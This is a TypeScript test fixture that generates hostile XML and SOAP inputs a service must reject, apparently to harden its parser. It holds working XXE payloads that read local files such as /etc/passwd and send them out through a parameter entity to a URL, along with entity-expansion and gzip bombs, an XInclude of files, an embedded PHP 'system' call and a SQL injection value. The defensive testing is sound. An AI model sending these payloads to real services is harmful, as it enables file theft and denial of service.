// Hostile documents for the SOAP service: each must be rejected and cost next to nothing.
import { deflateSync, gzipSync } from 'node:zlib';
import { availRequest, call, echoRequest, NS } from '../../src/capabilities/soap/soap-server.fixture.ts';
import { seededDice } from '../support/seeded-dice.ts';

export interface HostileDocument {
  readonly name: string;
  readonly bytes: Buffer;
  readonly headers?: Readonly<Record<string, string>>;
  /** 500 by default. */
  readonly status?: number;
}

/** What a parser could be tricked into opening. */
export interface Bait {
  readonly file: string;
  readonly url: string;
}

const ECHO = call(echoRequest('hello'));
const SOAP = 'http://schemas.xmlsoap.org/soap/envelope/';
const SOAP_1_2 = 'http://www.w3.org/2003/05/soap-envelope';
const many = (count: number, make: (at: number) => string) =>
  Array.from({ length: count }, (_, at) => make(at)).join('');
/** An echo request with unescaped content. */
const echoOf = (inside: string) => call(`<echoRequest xmlns="${NS}">${inside}</echoRequest>`);
const withSubset = (subset: string, inside = '&x;') => `<!DOCTYPE e [${subset}]>${echoOf(inside)}`;
const nested = (levels: number) => '<a>'.repeat(levels) + '</a>'.repeat(levels);
const attributes = (list: string) => call(`<echoRequest xmlns="${NS}" ${list}>x</echoRequest>`);
const headed = (blocks: string) => ECHO.replace('<s:Body>', `<s:Header>${blocks}</s:Header><s:Body>`);

export function hostileDocuments(bait: Bait): HostileDocument[] {
  const texts: Readonly<Record<string, string>> = {
    ...documentTypes(bait),
    ...ENTITIES,
    ...INSTRUCTIONS,
    ...FLOODS,
    ...NAMES,
    ...CHARACTERS,
    ...BROKEN,
    ...truncated(),
    ...envelopes(bait),
  };
  return [
    ...Object.entries(texts).map(([name, text]) => ({ name, bytes: Buffer.from(text) })),
    ...encodings(bait),
    ...noise(),
  ];
}

function documentTypes({ file, url }: Bait): Record<string, string> {
  const schemes = [
    `file://${file}`,
    url,
    'ftp://127.0.0.1/x',
    `php://filter/resource=${file}`,
    `jar:${url}!/x`,
    `netdoc://${file}`,
    'gopher://127.0.0.1:1/_x',
    'data:text/plain,x',
    '\\\\127.0.0.1\\share\\x',
    'expect://id',
    '../../../etc/passwd',
  ];
  return {
    'a DTD that says nothing': `<!DOCTYPE e>${ECHO}`,
    'a DTD in a file': `<!DOCTYPE e SYSTEM "file://${file}">${ECHO}`,
    'a DTD on the network': `<!DOCTYPE e SYSTEM "${url}">${ECHO}`,
    'a public DTD': `<!DOCTYPE e PUBLIC "-//W3C//DTD XHTML 1.0//EN" "${url}">${ECHO}`,
    ...Object.fromEntries(schemes.map((one) => [`an entity at ${one}`, withSubset(`<!ENTITY x SYSTEM "${one}">`)])),
    'a parameter entity in a file': withSubset(`<!ENTITY % p SYSTEM "file://${file}"> %p;`, 'x'),
    'a parameter entity that sends a file': withSubset(
      `<!ENTITY % f SYSTEM "file://${file}"><!ENTITY % d "<!ENTITY &#37; s SYSTEM '${url}?%f;'>">%d;%s;`,
      'x',
    ),
    'an entity of its own': withSubset('<!ENTITY x "y">'),
    'an entity in an attribute': `<!DOCTYPE e [<!ENTITY x "y">]>${attributes('a="&x;"')}`,
    'an entity that holds itself': withSubset('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
    'a billion laughs': withSubset(
      `<!ENTITY x0 "lol">${many(9, (at) => `<!ENTITY x${at + 1} "${`&x${at};`.repeat(10)}">`)}`,
      '&x9;',
    ),
    'a quadratic blow-up': withSubset(`<!ENTITY x "${'a'.repeat(30_000)}">`, '&x;'.repeat(8_000)),
    'a parameter entity bomb': withSubset(
      `<!ENTITY % a0 "x">${many(9, (at) => `<!ENTITY % a${at + 1} "${`%a${at};`.repeat(10)}">`)}%a9;`,
      'x',
    ),
    'four thousand entities': withSubset(
      many(4_000, (at) => `<!ENTITY e${at} "b">`),
      'x',
    ),
    'a megabyte of entities': withSubset(
      many(40_000, (at) => `<!ENTITY e${at} "b">`),
      'x',
    ),
    'default attributes': withSubset('<!ATTLIST echoRequest a CDATA "x">', 'x'),
    'a notation and an unparsed entity': withSubset(
      `<!NOTATION n SYSTEM "${url}"><!ENTITY x SYSTEM "${url}" NDATA n>`,
      'x',
    ),
    'a conditional section': withSubset('<![INCLUDE[<!ENTITY x "y">]]>', 'x'),
    'an instruction in a DTD': withSubset('<?x y?>', 'x'),
    'a DTD that does not end': `<!DOCTYPE e [${'<!-- '.repeat(10)}`,
    'a DTD inside': call('<!DOCTYPE e>x'),
    'two DTDs': `<!DOCTYPE e><!DOCTYPE e>${ECHO}`,
    'a DTD behind': `${ECHO}<!DOCTYPE e>`,
    'a doctype in small letters': `<!doctype html>${ECHO}`,
    'a DTD behind a comment': `<?xml version="1.0"?><!-- x -->\n<!DOCTYPE e [<!ENTITY x SYSTEM "file://${file}">]>${echoOf('&x;')}`,
  };
}

const ENTITIES: Readonly<Record<string, string>> = Object.fromEntries(
  [
    '&x;',
    '&nbsp;',
    '&#0;',
    '&#x0;',
    '&#1;',
    '&#xB;',
    '&#xD800;',
    '&#xFFFE;',
    '&#x110000;',
    `&#${'9'.repeat(400)};`,
    '&',
    '&amp',
    '&#;',
    '&#x;',
    '&#xZZ;',
    '& ;',
    '&amp ;',
    `&${'a'.repeat(30_000)};`,
    '%x;&y;',
    '&__proto__;',
    '&constructor;',
  ].map((one) => [`the reference ${one.slice(0, 20)}`, echoOf(one)]),
);

const INSTRUCTIONS: Readonly<Record<string, string>> = {
  'a stylesheet': `<?xml-stylesheet href="http://127.0.0.1:1/x.xsl"?>${ECHO}`,
  'an instruction inside': echoOf('<?php system("id"); ?>'),
  'an instruction behind': `${ECHO}<?x?>`,
  'an instruction that does not end': `<?x ${'y'.repeat(50_000)}`,
  'ten thousand instructions': '<?x?>'.repeat(10_000) + ECHO,
  'a declaration inside': echoOf('<?xml version="1.0"?>'),
  'a declaration behind a blank': ` <?xml version="1.0"?>${ECHO}`,
  'two declarations': `<?xml version="1.0"?><?xml version="1.0"?>${ECHO}`,
  'XML 1.1': `<?xml version="1.1"?>${echoOf('&#1;')}`,
  'XML 9.9': `<?xml version="9.9"?>${ECHO}`,
  'a declaration without a version': `<?xml encoding="utf-8"?>${ECHO}`,
  'a declaration of nonsense': `<?xml version="1.0" standalone="maybe"?>${ECHO}`,
  'an encoding with a path': `<?xml version="1.0" encoding="../../etc/passwd"?>${ECHO}`,
};

const FLOODS: Readonly<Record<string, string>> = {
  'elements 33 deep': call(nested(33)),
  'elements 10,000 deep': call(nested(10_000)),
  'elements 140,000 deep': call(nested(140_000)),
  'elements 100,000 deep that do not end': '<a>'.repeat(100_000),
  'a deep header': headed(nested(500)),
  '40,000 elements': call('<a/>'.repeat(40_000)),
  '2,000 headers': headed('<a xmlns="urn:a"/>'.repeat(2_000)),
  '1,000 document types': call(availRequest('1234567890', ...Array<string>(1_000).fill('BOL')), {
    user: 'abcde',
    password: 'abcde',
  }),
  '33 attributes': attributes(many(33, (at) => `a${at}="" `)),
  '60,000 attributes': attributes(many(60_000, (at) => `a${at}="" `)),
  'the same attribute 10,000 times': attributes('a="" '.repeat(10_000)),
  '3,000 namespaces': attributes(many(3_000, (at) => `xmlns:n${at}="urn:${at}" `)),
  'a namespace for each of 400 elements': call(many(400, (at) => `<n${at}:a xmlns:n${at}="urn:${at}"/>`)),
  'an attribute of half a megabyte': attributes(`a="${'x'.repeat(500_000)}"`),
  'an attribute of references': attributes(`a="${'&#65;'.repeat(12_000)}"`),
  'a text of half a megabyte': echoOf('x'.repeat(500_000)),
  'a text of 60,000': echoOf('x'.repeat(60_000)),
  'a text of references': echoOf('&lt;'.repeat(15_000)),
  'a text of references, half a megabyte': echoOf('&#x41;'.repeat(80_000)),
  'a blank text of 60,000': call(' '.repeat(60_000)),
  'line feeds': '\n'.repeat(60_000),
  '101 comments': echoOf('<!-- -->'.repeat(101)),
  '60,000 comments': echoOf('<!---->'.repeat(60_000)),
  'a comment of 60,000': `<!--${'- '.repeat(30_000)}-->${echoOf('<x/>')}`,
  'a comment of half a megabyte': `<!--${'x'.repeat(500_000)}-->${ECHO}`,
  '5,000 CDATA sections': echoOf('<![CDATA[x]]>'.repeat(4_500)),
  'a CDATA section of half a megabyte': echoOf(`<![CDATA[${']'.repeat(500_000)}]]>`),
  'a name of 60,000': call(`<${'a'.repeat(60_000)}/>`),
  'a name of half a megabyte': call(`<${'a'.repeat(500_000)}/>`),
  'an attribute with a name of 60,000': attributes(`${'a'.repeat(60_000)}=""`),
  'a prefix of 60,000': call(`<${'p'.repeat(60_000)}:a/>`),
  'a megabyte of blanks': ECHO + ' '.repeat(1_000_000),
};

const NAMES: Readonly<Record<string, string>> = {
  'the same attribute twice': attributes('a="1" a="2"'),
  'the same attribute twice, by namespace': attributes('xmlns:p="urn:n" xmlns:q="urn:n" p:a="1" q:a="2"'),
  'a prefix of nobody': call('<p:a/>'),
  'a prefix of nobody on an attribute': attributes('p:a="1"'),
  'xml is another': attributes('xmlns:xml="urn:x"'),
  'xmlns is another': attributes('xmlns:xmlns="urn:x"'),
  'a prefix that is taken away': attributes('xmlns:p=""'),
  'a name with two colons': call('<a:b:c/>'),
  'a name that begins with a colon': call('<:a/>'),
  'a name that begins with a digit': call('<1a/>'),
  'a name of Object.prototype': call('<__proto__/>'),
  'attributes of Object.prototype': attributes('__proto__="1" constructor="2" toString="3"'),
  'prefixes of Object.prototype': call('<constructor:a xmlns:constructor="urn:c"><toString:b/></constructor:a>'),
  'an attribute without quotes': attributes('a=b'),
  'an attribute without a value': attributes('a'),
  'an attribute with <': attributes('a="<"'),
  'attributes without a blank': attributes('a="1"b="2"'),
};

const CHARACTERS: Readonly<Record<string, string>> = Object.fromEntries(
  ['\u0000', '\u0001', '\u0008', '\u000b', '\u001f', '\ufffe', '\uffff', ']]>'].map((one) => [
    `the text ${JSON.stringify(one)}`,
    echoOf(`a${one}b`),
  ]),
);

const BROKEN: Readonly<Record<string, string>> = {
  nothing: '',
  blanks: ' \n ',
  'no XML': 'hello',
  JSON: '{"echoRequest":"hello"}',
  HTML: '<html><body><p>Hello<br></body></html>',
  '<': '<',
  '<?xml': '<?xml',
  '<!--': '<!-- ',
  '<![CDATA[': '<![CDATA[x]]>',
  '</a>': '</a>',
  'two documents': ECHO + ECHO,
  'words behind': `${ECHO}hello`,
  'words before': `hello${ECHO}`,
  'ends that cross': echoOf('<a><b></a></b>'),
  'a comment with --': echoOf('<!-- -- -->'),
  'a nested CDATA section': echoOf('<![CDATA[<![CDATA[x]]>]]>'),
  '<!ELEMENT outside': `<!ELEMENT a ANY>${ECHO}`,
};

/** A valid request that was cut off. */
function truncated(): Record<string, string> {
  const whole = call(availRequest('1234567890', 'BOL'), { user: 'abcde', password: 'abcde' });
  const ends = Array.from({ length: 15 }, (_, at) => Math.floor(((at + 1) * (whole.length - 1)) / 16));
  return Object.fromEntries(ends.map((end) => [`the first ${end} characters of a request`, whole.slice(0, end)]));
}

function envelopes({ file, url }: Bait): Record<string, string> {
  return {
    'SOAP 1.2': ECHO.replace(SOAP, SOAP_1_2),
    'SOAP 0.9': ECHO.replace(SOAP, 'urn:schemas-xmlsoap-org:soap.v1'),
    'no namespace': '<Envelope><Body/></Envelope>',
    'an envelope in an envelope': call(ECHO),
    'two bodies': ECHO.replace('</s:Body>', '</s:Body><s:Body/>'),
    'a reference to another place': call(`<echoRequest xmlns="${NS}" href="#a"/>`),
    'references in a circle': call('<a href="#b" id="a"/><b href="#a" id="b"/>'),
    'an attachment': echoOf('<xop:Include xmlns:xop="http://www.w3.org/2004/08/xop/include" href="cid:x"/>'),
    'an XInclude of a file': echoOf(
      `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://${file}" parse="text"/>`,
    ),
    'an XInclude of an address': call(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${url}"/>`),
    'a schema elsewhere': attributes(
      `xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="${NS} ${url}" xsi:nil="1"`,
    ),
    'a schema of its own': echoOf(
      `<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="file://${file}"/></xs:schema>`,
    ),
    'another type': attributes('xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="xsi:anything"'),
    'a header that must be understood': headed('<w xmlns="urn:w" s:mustUnderstand="1"/>'),
    '200 headers auth': call('<a/>').replace(
      '<s:Body>',
      `<s:Header>${`<auth xmlns="${NS}"/>`.repeat(200)}</s:Header><s:Body>`,
    ),
    'a stored procedure in the number': call(availRequest("1'; DROP TABLE soap_users;", 'BOL'), {
      user: 'abcde',
      password: 'abcde',
    }),
  };
}

function encodings({ file }: Bait): HostileDocument[] {
  const xxe = withSubset(`<!ENTITY x SYSTEM "file://${file}">`);
  const utf16 = Buffer.from(`\ufeff${xxe}`, 'utf16le');
  const bytes = (...values: number[]) => Buffer.from(values);
  const [before = '', after = ''] = ECHO.split('hello');
  const inEcho = (inside: Buffer) => Buffer.concat([Buffer.from(before), inside, Buffer.from(after)]);
  const bomb = gzipSync(Buffer.alloc(50_000_000));
  return [
    { name: 'a DTD in UTF-16', bytes: utf16 },
    { name: 'a DTD in UTF-16, the other way round', bytes: Buffer.from(utf16).swap16() },
    { name: 'a DTD in UTF-16 without a mark', bytes: utf16.subarray(2) },
    { name: 'a DTD in UTF-7', bytes: Buffer.from('<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE') },
    {
      name: 'a DTD in UTF-7 by charset',
      bytes: Buffer.from('+ADwAIQ-DOCTYPE'),
      headers: { 'content-type': 'text/xml; charset=utf-7' },
    },
    { name: 'a DTD in EBCDIC', bytes: bytes(0x4c, 0x6f, 0xa7, 0x94, 0x93, 0x40) },
    { name: 'UTF-32', bytes: bytes(0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0) },
    { name: 'UTF-32, the other way round', bytes: bytes(0, 0, 0xfe, 0xff, 0, 0, 0, 0x3c) },
    { name: 'UTF-32 without a mark', bytes: bytes(0x3c, 0, 0, 0, 0x61, 0, 0, 0) },
    { name: 'a mark and nothing', bytes: bytes(0xef, 0xbb, 0xbf) },
    { name: 'a UTF-16 mark and nothing', bytes: bytes(0xff, 0xfe) },
    { name: 'half a character of UTF-16', bytes: utf16.subarray(0, 101) },
    { name: 'half a surrogate pair', bytes: Buffer.from('\ufeff<a>\ud800</a>', 'utf16le') },
    { name: 'Latin-1 without saying so', bytes: inEcho(bytes(0xe9)) },
    { name: 'an overlong <', bytes: Buffer.concat([bytes(0xc0, 0xbc), Buffer.from('a/>')]) },
    { name: 'an overlong NUL', bytes: inEcho(bytes(0xc0, 0x80)) },
    { name: 'a surrogate in UTF-8', bytes: inEcho(bytes(0xed, 0xa0, 0x80)) },
    { name: 'a character beyond Unicode', bytes: inEcho(bytes(0xf4, 0x90, 0x80, 0x80)) },
    { name: 'five bytes for a character', bytes: inEcho(bytes(0xf8, 0x88, 0x80, 0x80, 0x80)) },
    { name: 'a character that does not end', bytes: inEcho(bytes(0xe2, 0x82)) },
    { name: '0xFF', bytes: inEcho(bytes(0xff)) },
    { name: 'an unknown charset', bytes: Buffer.from(ECHO), headers: { 'content-type': 'text/xml; charset=klingon' } },
    {
      name: 'UTF-8 that is called UTF-16',
      bytes: Buffer.from(ECHO),
      headers: { 'content-type': 'text/xml; charset=utf-16be' },
    },
    { name: 'a bomb that does not say that it is compressed', bytes: bomb },
    { name: 'a bomb', bytes: bomb, headers: { 'content-encoding': 'gzip' }, status: 415 },
    { name: 'a deflated document', bytes: deflateSync(ECHO), headers: { 'content-encoding': 'deflate' }, status: 415 },
    {
      name: 'twice compressed',
      bytes: gzipSync(gzipSync(ECHO)),
      headers: { 'content-encoding': 'gzip, gzip' },
      status: 415,
    },
    { name: 'more than a megabyte', bytes: Buffer.from(call(nested(200_000))), status: 413 },
  ];
}

/** Random bytes, and valid requests with random bytes replaced. */
function noise(): HostileDocument[] {
  const dice = seededDice('hostile XML');
  const byte = () => dice.between(0, 255);
  const noisy = Array.from({ length: 10 }, (_, at) => ({
    name: `noise ${at}`,
    bytes: Buffer.from(Array.from({ length: 200 * (at + 1) }, byte)),
  }));
  const spoiled = Array.from({ length: 10 }, (_, at) => {
    // The root element's name is corrupted too, so that none is valid by chance.
    const bytes = Buffer.from(ECHO.replace('<s:Envelope', '<s:Envelopx'));
    for (let times = 0; times <= at; times++) bytes[dice.between(0, bytes.length - 1)] = byte();
    return { name: `spoiled ${at}`, bytes };
  });
  return [...noisy, ...spoiled];
}
